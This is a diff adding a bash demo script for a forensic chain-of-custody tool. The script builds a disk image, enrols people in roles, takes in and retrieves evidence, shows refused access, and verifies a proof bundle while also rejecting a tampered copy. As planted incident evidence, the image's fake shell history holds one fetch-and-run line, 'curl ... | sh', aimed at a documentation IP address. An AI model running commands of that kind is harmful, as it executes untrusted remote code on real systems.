@@ -1,0 +1,143 @@
+#!/usr/bin/env bash
+# The main job, from an empty folder to a proof: take evidence in, retrieve it,
+# and prove its custody with the service stopped. Prints each command as a
+# person would type it, and what came back. Fails at the first step that does
+# not do what it says.
+#
+#   FILE=path   the artifact to take in (default: a disk image made here)
+set -euo pipefail
+cd "$(dirname "$0")/.."
+here=$PWD
+export PATH="$here/bin:$PATH"
+work=$(mktemp -d "${TMPDIR:-/tmp}/custody-demo.XXXXXX")
+service=''
+cleanup() {
+  [ -z "$service" ] || kill "$service" 2>/dev/null || true
+  wait 2>/dev/null || true
+  [ -n "${KEEP:-}" ] || rm -rf "$work"
+}
+trap cleanup EXIT
+artifact=${FILE:+$(realpath "$FILE")}
+cd "$work"
+
+step() { printf '\n== %s\n' "$*"; }
+# run prints a command as it would be typed, and what it prints.
+run() {
+  printf '\n$'; printf ' %q' "$@"; printf '\n'
+  "$@" 2>&1 | tee out
+}
+# refused runs a command that must be refused (exit code 1) with this text.
+refused() {
+  local text=$1 code=0; shift
+  printf '\n$'; printf ' %q' "$@"; printf '\n'
+  "$@" >out 2>&1 || code=$?
+  cat out
+  [ "$code" = 1 ] || { echo "demo: exit code $code instead of 1" >&2; exit 1; }
+  grep -q "$text" out || { echo "demo: \"$text\" was expected" >&2; exit 1; }
+}
+must() { grep -q -- "$1" out || { echo "demo: \"$1\" was expected above" >&2; exit 1; }; }
+field() { sed -n "s/.*\"$1\": \"\\([^\"]*\\)\".*/\\1/p" "$2" | head -n 1; }
+as() { local who=$1; shift; run custody --home "$who" "$@"; }
+newcomer() { # home, name, title
+  run custody --home "$1" key new --server "$url" --trust trust.json --name "$2" --title "$3" --contact "$1@example.org"
+}
+enroll() { # home, roles…
+  local who=$1; shift
+  local args=()
+  for r in "$@"; do args+=(--role "$r"); done
+  as admin principal enroll "$who/enrolment.json" "${args[@]}"
+  local id; id=$(grep -o 'p-[a-z2-7]\{16\}' out | head -n 1)
+  as "$who" login --principal "$id"
+}
+
+head -c 18 /dev/urandom | base64 >passphrase
+export CUSTODY_PASSPHRASE_FILE=$work/passphrase
+
+if [ -z "$artifact" ]; then
+  step "A disk image with a real file system, 64 MiB, filled with this machine's documents"
+  artifact=$work/web01.dd
+  truncate -s 64M "$artifact"
+  mkdir content
+  find /usr/share/doc -type f -size -200k -print0 2>/dev/null | head -z -n 400 | xargs -0 -I{} cp --parents {} content/ 2>/dev/null || true
+  echo "4711 /usr/bin/curl -s http://203.0.113.9/x | sh" >content/history
+  PATH="$PATH:/sbin:/usr/sbin" mke2fs -q -t ext4 -d content "$artifact"
+fi
+printf 'the artifact: %s bytes, SHA-256 %s\n' "$(stat -c %s "$artifact")" "$(sha256sum <"$artifact" | cut -d' ' -f1)"
+
+step "A service of its own, in a new folder, on loopback"
+run custody init --dir service --origin custody.example/demo --listen 127.0.0.1:0
+printf '\n$ custody serve --dir service &\n'
+custody serve --dir service 2>serve.log &
+service=$!
+for _ in $(seq 200); do grep -q 'first --code' serve.log && break; sleep 0.05; done
+grep '^custody' serve.log
+url=$(sed -n 's/.*serving .* at \(http[^ ]*\) .*/\1/p' serve.log | head -n 1)
+code=$(sed -n 's/.*--first --code \(.*\)$/\1/p' serve.log | head -n 1)
+[ -n "$url" ] && [ -n "$code" ] || { cat serve.log >&2; exit 1; }
+cp service/trust.json .
+
+step "People with keys of their own"
+newcomer admin "Ada Admin" administrator
+as admin principal enroll --first --code "$code"
+newcomer manager "Max Manager" "incident manager"
+enroll manager incident-manager
+newcomer eve "Eve Engineer" "forensic engineer"
+enroll eve forensic-engineer
+newcomer lee "Lee Legal" "legal advisor"
+enroll lee legal-advisor
+newcomer otto "Otto Auditor" "external auditor"
+enroll otto external-auditor
+
+step "An incident, and who works on it"
+as manager incident open --title "web01 talks to an unknown host"
+incident=$(grep -o 'i-[a-z2-7]\{16\}' out | head -n 1)
+engineer=$(field principal eve/profile.json)
+as manager incident assign "$incident" "$engineer" --purpose "disk forensics of web01"
+
+step "The artifact is taken in"
+as eve evidence add "$artifact" --incident "$incident" --exhibit EX-1 --type disk \
+  --source "web01, disk 0" --method "dead, write blocker" --tool "mke2fs of this demo" \
+  --collected-at "$(date +%Y-%m-%dT%H:%M:%S%:z)" --place "the demo's folder" --purpose "seized after alert 4711"
+item=$(grep -o 'e-[a-z2-7]\{16\}' out | head -n 1)
+must "$(sha256sum <"$artifact" | cut -d' ' -f1)"
+for _ in $(seq 200); do
+  custody --home eve evidence show "$item" >out && grep -q 'read back' out && break; sleep 0.1
+done
+as eve evidence show "$item"
+must 'sealed, read back'
+
+step "Retrieved by the engineer, bit for bit"
+as eve evidence get "$item" -o copy.dd --purpose "timeline of the intrusion"
+run cmp "$artifact" copy.dd
+
+step "Refused to the auditor and to the administrator, who may not have it"
+refused 'refused: no such thing, or not for you' custody --home otto evidence get "$item" -o no.dd --purpose curiosity
+refused 'refused: no such thing, or not for you' custody --home admin evidence get "$item" -o no.dd --purpose curiosity
+[ ! -e no.dd ] || { echo "demo: bytes were left behind" >&2; exit 1; }
+
+step "The custody history, read by the legal advisor: the auditor's attempt is in it"
+as lee evidence history "$item"
+must 'evidence.retrieve .*Eve Engineer'
+must 'evidence.retrieve .*Otto Auditor  REFUSED'
+must 'evidence.receive'
+
+step "The proof, exported"
+as lee bundle export "$item" -o EX-1.bundle --purpose "disclosure to the defence"
+
+step "The service is stopped"
+kill "$service"; wait "$service" || true; service=''
+echo "stopped"
+
+step "Verified by the auditor, who trusts the trust file and nobody else"
+run custody bundle verify EX-1.bundle --trust trust.json --artifact copy.dd
+must '^VERIFIED'
+must 'complete as of tree size'
+must 'bit for bit what was sealed'
+
+step "And a proof in which one byte was changed does not verify"
+cp EX-1.bundle forged.bundle
+byte=$(od -An -tu1 -j 2000 -N1 forged.bundle | tr -d ' ')
+printf "$(printf '\\%03o' $((byte ^ 1)))" | dd of=forged.bundle bs=1 seek=2000 conv=notrunc status=none
+refused 'NOT VERIFIED' custody bundle verify forged.bundle --trust trust.json
+
+printf '\ndemo: done, every step did what it says\n'
